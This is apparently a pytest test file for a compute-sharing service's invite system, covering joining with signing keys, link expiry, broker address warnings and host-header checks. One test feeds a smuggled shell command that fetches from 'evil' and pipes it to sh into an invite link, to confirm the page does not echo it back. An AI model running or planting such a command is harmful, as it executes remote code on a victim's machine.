"""Invites: one machine each, once, for a short while; and the worker's side of taking one up."""

import secrets
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx2
import pytest
from redis.exceptions import ResponseError
from sqlalchemy import select, update
from starlette.testclient import TestClient

from api.broker import Broker
from api.database import Database, now_ms
from api.errors import Conflict
from api.fleet.invites import Introduction, InviteService, is_local
from api.fleet.service import Fleet
from api.main import create_app
from api.scheduler.machines import INVITE, KEPT_OF_GUEST, MACHINE, Roll, remember
from computeshare.errors import ComputeShareError, SettingsError
from computeshare.queue import WorkerInfo
from computeshare.runtime.signatures import SigningKey
from computeshare.settings import Settings, is_gateway_url
from computeshare.transport.connections import connect
from computeshare.worker.invite import introduction, join
from tests.support.served_api import serving

BROKER = "rediss://broker.example:6379"


@pytest.fixture
def plane(migrated: Path, tmp_path: Path, redis_url: str) -> Iterator[tuple[str, Settings]]:
    """A control plane on a socket, and the headers of its owner."""
    settings = Settings(home=shutil.copytree(migrated.parent, tmp_path / "plane"), redis_url=redis_url)
    with serving(settings) as (url, _):
        yield url, settings


OWN_NAMES = ("studio.local", "localhost")


def invite(client: TestClient, queue: str = "mnist") -> dict[str, str]:
    answer = client.post("/v1/invites", json={"queue": queue})
    assert answer.status_code == 201
    found: dict[str, str] = answer.json()
    assert answer.headers["location"] == f"/v1/invites/{found['id']}"
    return found


def machine(code: str) -> Introduction:
    """A machine with a new key, which takes an invite up."""
    return Introduction(**introduction("mac", code, SigningKey.new()))


def path_of(made: dict[str, str]) -> str:
    return "/join/" + made["url"].rpartition("/")[2]


def test_an_invite_says_what_to_type_and_shows_its_code_once(client: TestClient) -> None:
    made = invite(client)
    base, _, code = made["url"].rpartition("/join/")
    assert made["command"] == f"computeshare-worker --join {base}#{code}"
    assert made["qr"].startswith("data:image/svg+xml")
    shown = client.get(f"/v1/invites/{made['id']}").json()
    assert (shown["status"], shown["worker"], shown.get("url")) == ("pending", None, None)
    code = made["url"].rpartition("/")[2]
    assert code not in client.get("/v1/invites").text


def test_without_a_public_address_a_machine_uses_the_gateway_at_its_links_address(
    plane: tuple[str, Settings], tmp_path: Path
) -> None:
    url, settings = plane
    headers = {"Authorization": f"Bearer {settings.ensure_token()}"}
    with httpx2.Client(base_url=url, headers=headers) as owner:
        made = owner.post("/v1/invites", json={"queue": "mnist"}).json()
        found = join(made["url"], "anna's mac", tmp_path / "worker")
        assert found.gateway is not None and found.redis_url == "" and found.machine == made["id"]
        assert join(made["url"], "anna's mac", tmp_path / "worker") == found  # as when it starts again
        with found.broker_url() as address, connect(address) as redis:
            assert redis.ping()
            with pytest.raises(ResponseError, match="REFUSED"):
                redis.flushall()
        with pytest.raises(SettingsError, match="was already used"):
            join(made["url"], "another", tmp_path / "other")
        shown = owner.get(f"/v1/invites/{made['id']}").json()
        assert (shown["status"], shown["worker"]) == ("taken", "anna's mac")
    kept = tmp_path / "worker" / "joined.json"
    assert kept.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize(
    ("url", "nearby"),
    [
        ("http://192.168.1.5:8000", True),
        ("http://[fd00::1]:8000", True),
        ("http://studio.local:8000", True),
        ("http://studio", True),
        ("http://127.0.0.1:8000", True),
        ("https://home.example", True),
        ("http://home.example", False),
        ("http://8.8.8.8", False),
        ("http://192.168.1.5@home.example", False),
        ("http://192.168.1.5.home.example", False),
        ("ftp://192.168.1.5", False),
    ],
)
def test_an_unencrypted_link_is_used_within_a_local_network_alone(url: str, nearby: bool) -> None:
    assert is_gateway_url(url, nearby=True) is nearby


def test_an_answer_that_was_lost_is_given_again_to_the_same_machine_and_to_no_other(
    plane: tuple[str, Settings], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, settings = plane
    headers = {"Authorization": f"Bearer {settings.ensure_token()}"}
    link = httpx2.post(f"{url}/v1/invites", json={}, headers=headers).json()["url"]
    post = httpx2.post

    def cut_off(*arguments: Any, **named: Any) -> None:
        post(*arguments, **named)
        raise httpx2.ReadTimeout("the answer was lost")

    with monkeypatch.context() as patch:
        patch.setattr(httpx2, "post", cut_off)
        with pytest.raises(ComputeShareError, match="no control plane answers"):
            join(link, "mac", tmp_path / "worker")
    with pytest.raises(SettingsError, match="was already used"):
        join(link, "mac", tmp_path / "other")
    assert join(link, "mac", tmp_path / "worker").gateway is not None
    [key] = (tmp_path / "worker" / "machine-keys").iterdir()
    assert key.stat().st_mode & 0o077 == 0


def test_the_same_key_gets_the_same_answer_until_the_invite_expires(database: Database) -> None:
    invites = InviteService(database, BROKER)
    made, code = invites.create("mnist", 15)
    mine = machine(code)
    for _ in range(2):
        assert invites.take_up(code, mine, from_here=False).redis_url == BROKER
    with pytest.raises(Conflict, match="was already used"):
        invites.take_up(code, machine(code), from_here=False)
    for signature in ("", "0" * 128, machine(code).signature):  # who knows the key but does not hold it
        with pytest.raises(Conflict, match="sent no key"):
            invites.take_up(code, replace(mine, signature=signature), from_here=False)
    with database.writing() as connection:
        connection.execute(update(INVITE).values(expires_ms=now_ms() - 1))
    with pytest.raises(Conflict, match="was already used"):
        invites.take_up(code, mine, from_here=False)
    assert invites.show(made.id).status == "taken"


def test_a_machine_has_joined_once_it_is_heard_of_on_the_queue(database: Database) -> None:
    invites, now = InviteService(database, BROKER), now_ms()
    made, code = invites.create("mnist", 15)

    def heard(name: str, queue: str, at_ms: int) -> str:
        worker = WorkerInfo(secrets.token_hex(6), name, "cpu", ("other", queue), {}, 1, "h", 1, last_seen_ms=at_ms)
        with database.writing() as connection:
            remember(connection, worker, at_ms)
        return invites.show(made.id).status

    assert heard("mac", "mnist", now - 3_600_000) == "pending"
    invites.take_up(code, machine(code), from_here=False)
    assert invites.show(made.id).status == "taken"
    assert heard("studio", "mnist", now) == heard("mac", "elsewhere", now) == "taken"
    assert heard("mac", "mnist", now) == "joined"
    assert [one.status for one in invites.list().items] == ["joined"]


@pytest.mark.parametrize("at_gateway", [True, False])
def test_an_invited_machine_is_its_persons_and_two_of_one_name_are_told_apart(
    database: Database, settings: Settings, at_gateway: bool
) -> None:
    invites = InviteService(database, None if at_gateway else BROKER)
    fleet, now = Fleet(database, Broker(settings)), now_ms()

    def joins(person: str | None, name: str) -> str:
        made, code = invites.create("mnist", 15, person=person)
        assert made.person == person
        invites.take_up(code, replace(machine(code), name=name), from_here=False)
        worker_id = (made.id if at_gateway else "") + secrets.token_hex(6)
        worker = WorkerInfo(worker_id, name, "cpu", ("mnist",), {}, 1, "h", 1, last_seen_ms=now)
        with database.writing() as connection:
            remember(connection, worker, now)
        return worker_id

    anna, ben, nobody = joins("Anna", "mac"), joins("Ben", "mac" if at_gateway else "air"), joins(None, "pro")

    def people() -> list[str | None]:
        found = {one.id: one.person for one in fleet.workers(offline=True).items}
        return [found.get(worker_id) for worker_id in (anna, ben, nobody)]

    with database.writing() as connection:  # so that the list, which has one line for a host and name, has both
        connection.execute(update(MACHINE).where(MACHINE.c.worker == ben).values(host="another"))
    assert people() == ["Anna", "Ben", None]
    fleet.assign(anna, "Carla")
    assert people() == ["Carla", "Ben", None]
    fleet.assign(nobody, "Dora")
    assert people()[2] == "Dora" and fleet.assign(nobody, None).person == (None if at_gateway else "owner")


def test_an_invited_machine_is_not_moved_with_one_of_the_same_name(database: Database, settings: Settings) -> None:
    invites, fleet, now = InviteService(database), Fleet(database, Broker(settings)), now_ms()
    made, code = invites.create("mnist", 15, person="Anna")
    invites.take_up(code, machine(code), from_here=False)
    hers, own = f"{made.id}{secrets.token_hex(2)}", secrets.token_hex(6)
    with database.writing() as connection:
        for worker_id, host in ((hers, "hers"), (own, "own")):
            remember(connection, WorkerInfo(worker_id, "mac", "cpu", (), {}, 1, host, 1, last_seen_ms=now), now)
    fleet.assign(own, "Anna")
    fleet.assign(own, None)
    found = {one.id: one.person for one in fleet.workers(offline=True).items}
    assert (found[hers], found[own]) == ("Anna", "owner")


@pytest.mark.parametrize("assigned_back", [True, False])
def test_a_machine_with_the_brokers_address_stays_whose_it_was_over_restarts(
    database: Database, settings: Settings, assigned_back: bool
) -> None:
    invites, fleet, roll = InviteService(database, BROKER), Fleet(database, Broker(settings)), Roll(database)
    _, code = invites.create("mnist", 15)
    invites.take_up(code, machine(code), from_here=False)
    now = now_ms()
    first, second = secrets.token_hex(6), secrets.token_hex(6)

    def runs(worker_id: str, at_ms: int) -> None:
        roll.call([WorkerInfo(worker_id, "mac", "cpu", (), {}, 1, "h", 1, last_seen_ms=at_ms)], at_ms, calm=False)

    runs(first, now)
    if assigned_back:
        fleet.assign(first, None)
    else:
        with database.writing() as connection:
            connection.execute(INVITE.delete())  # as a day after it has expired
    runs(second, now + 60_000)
    found = {one.id: one.person for one in fleet.workers(offline=True).items}
    assert first not in found and found[second] == ("owner" if assigned_back else None)


def test_of_an_invited_machine_that_names_workers_for_ever_the_newest_are_remembered(database: Database) -> None:
    invites, roll = InviteService(database), Roll(database)
    made, code = invites.create("mnist", 15)
    invites.take_up(code, machine(code), from_here=False)
    own, others = [secrets.token_hex(6) for _ in range(100)], [f"{made.id}{number:04}" for number in range(100)]
    for place in range(0, 104, 4):
        now = now_ms() + 1000 * place
        there = [*own[place : place + 4], *others[place : place + 4]]
        said = [WorkerInfo(one, one, "cpu", (), {}, 1, "h", 1, last_seen_ms=now) for one in there]
        roll.call(said, now, calm=False)
    with database.engine.connect() as connection:
        known = set(connection.scalars(select(MACHINE.c.worker)))
    assert known == {*own, *others[-KEPT_OF_GUEST:]}


def test_an_invited_machine_serves_its_queue_from_when_it_has_joined_until_its_access_ends(database: Database) -> None:
    invites, now = InviteService(database, lambda: BROKER, "https://home.example"), now_ms()
    made, code = invites.create("mnist", 15, days=1)
    invites.take_up(code, machine(code), from_here=False)
    for worker_id, heard in ((secrets.token_hex(6), False), (f"{made.id}ab12", True)):
        assert invites.have_joined("mnist") is False
        with database.writing() as connection:
            # Its name and queues are what it says of itself; the gateway holds it to its id.
            name, queue = ("another", "elsewhere") if heard else ("mac", "mnist")
            remember(connection, WorkerInfo(worker_id, name, "cpu", (queue,), {}, 1, "h", 1, last_seen_ms=now), now)
        assert invites.have_joined("mnist") is heard
        assert invites.show(made.id).status == ("joined" if heard else "taken")
    assert invites.have_joined("mnist") and not invites.have_joined("other")
    with database.writing() as connection:
        connection.execute(update(INVITE).values(access_ends_ms=now - 1))
    assert not invites.have_joined("mnist")


def test_what_stands_behind_the_link_is_not_in_the_command(client: TestClient) -> None:
    made = invite(client)
    page = client.get(f"{path_of(made)}?x=;curl${{IFS}}evil|sh", headers={"accept": "text/html"})
    assert f"{made['command']}<" in page.text and "evil" not in page.text


def test_invited_machines_get_the_address_that_is_meant_for_them(tmp_path: Path, redis_url: str) -> None:
    settings = Settings(home=tmp_path, redis_url=redis_url, token="secret", public_redis_url="rediss://b.example:6379")
    with TestClient(create_app(settings), base_url="http://localhost") as client:
        client.headers["authorization"] = "Bearer secret"
        made = invite(client)
        del client.headers["authorization"]
        path = path_of(made)
        given = client.post(path, json=introduction("anna's mac", path.rpartition("/")[2], SigningKey.new())).json()
    assert {name: value for name, value in given.items() if value} == {
        "redis_url": "rediss://b.example:6379",
        "queue": "mnist",
        "control_key": settings.ensure_signing_key().public,
    }
    assert (tmp_path / "control.key").stat().st_mode & 0o077 == 0


def test_an_address_of_the_broker_that_others_do_not_know_or_that_allows_everything_is_warned_of(
    database: Database,
) -> None:
    def noted(url: str) -> str | None:
        return InviteService(database, url).note()

    note = noted("redis://worker:secret@valkey:6379/0") or ""
    assert "valkey" in note and "COMPUTESHARE_PUBLIC_REDIS_URL" in note and "secret" not in note
    for host in ("broker.example:6379", "10.0.0.5:6379", "[2001:db8::1]:6379"):
        assert noted(f"rediss://worker:secret@{host}") is None
        for user in ("", ":secret@", "owner:secret@"):
            note = noted(f"rediss://{user}{host}") or ""
            assert "may do everything in the broker" in note and "secret" not in note


def test_all_that_keeps_another_machine_from_joining_is_said_at_once(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path, redis_url="redis://127.0.0.1:6379", token="secret", url="http://studio.local")
    with TestClient(create_app(settings)) as client:
        client.headers["authorization"] = "Bearer secret"
        notes = {host: client.post(f"http://{host}/v1/invites", json={}).json()["note"] for host in OWN_NAMES}
    assert notes["studio.local"] is None
    assert "--lan" in notes["localhost"]
    settings = settings.model_copy(update={"url": "http://home.example", "public_redis_url": "redis://127.0.0.1:6379"})
    with TestClient(create_app(settings)) as client:
        client.headers["authorization"] = "Bearer secret"
        made = client.post("http://home.example/v1/invites", json={}).json()
    assert "COMPUTESHARE_PUBLIC_REDIS_URL" in made["note"] and "COMPUTESHARE_PUBLIC_URL" in made["note"]
    assert made["blocked"]
    settings = settings.model_copy(update={"url": "http://studio.local", "public_redis_url": "redis://valkey:6379"})
    with TestClient(create_app(settings)) as client:
        client.headers["authorization"] = "Bearer secret"
        warned, blocked = (client.post(f"http://{host}/v1/invites", json={}).json() for host in OWN_NAMES)
    assert "other networks" in warned["note"] and "may do everything" in warned["note"] and not warned["blocked"]
    assert blocked["blocked"] and blocked["note"].startswith("only this machine can open")
    assert "may do everything" not in blocked["note"], "a warning is for machines that can join"


def test_what_is_no_invite_is_said_so_without_repeating_its_code(plane: tuple[str, Settings], tmp_path: Path) -> None:
    url, _ = plane
    with pytest.raises(SettingsError, match="no such invite") as error:
        join(f"{url}/join/sesame", "mac", tmp_path)
    assert "sesame" not in str(error.value)
    with pytest.raises(SettingsError, match="is no invite's link"):
        join(f"{url}/healthz", "mac", tmp_path)
    with pytest.raises(SettingsError, match="no control plane answers"):
        join("http://127.0.0.1:1/join/x", "mac", tmp_path)


def test_an_invite_expires_and_can_be_withdrawn(client: TestClient, database: Database) -> None:
    made = invite(client)
    with database.writing() as connection:
        connection.execute(update(INVITE).where(INVITE.c.id == made["id"]).values(expires_ms=now_ms() - 1))
    assert client.get(f"/v1/invites/{made['id']}").json()["status"] == "expired"
    page = client.get(path_of(made), headers={"accept": "text/html"})
    assert "has expired" in page.text
    assert client.delete(f"/v1/invites/{made['id']}").status_code == 204
    assert client.delete(f"/v1/invites/{made['id']}").status_code == 404
    assert client.get(path_of(made)).status_code == 404


def test_access_that_ends_needs_a_gateway(database: Database) -> None:
    with pytest.raises(Conflict, match="COMPUTESHARE_PUBLIC_REDIS_URL"):
        InviteService(database, BROKER).create("mnist", 15, days=7)
    assert InviteService(database).create("mnist", 15, days=7)[0].access_ends_at is not None


@pytest.mark.parametrize(
    "body", [{"queue": "no spaces"}, {"minutes": 0}, {"minutes": True}, {"days": 0}, {"more": 1}], ids=str
)
def test_what_cannot_be_is_refused(client: TestClient, body: dict[str, object]) -> None:
    assert client.post("/v1/invites", json=body).status_code == 422


@pytest.mark.parametrize(
    ("url", "local"),
    [
        ("unix:///tmp/broker.sock", True),
        ("redis://127.0.0.1:6379/0", True),
        ("redis://:secret@localhost/0", True),
        ("redis://[::1]:6379", True),
        ("redis:///0", True),
        ("redis://0.0.0.0:6379", True),
        ("rediss://broker.example:6379", False),
        ("redis://192.168.1.4:6379", False),
    ],
    ids=str,
)
def test_a_broker_that_others_cannot_reach_is_told(url: str, local: bool) -> None:
    assert is_local(url) is local


def test_the_host_header_has_no_say_in_what_is_open_to_all(client: TestClient) -> None:
    del client.headers["authorization"]
    for host in ("localhost/static/?", "localhost/join/x?", "localhost/healthz?"):
        assert client.get("/v1/jobs", headers={"host": host}).status_code in (400, 401)
    assert client.get("/v1/jobs").status_code == 401
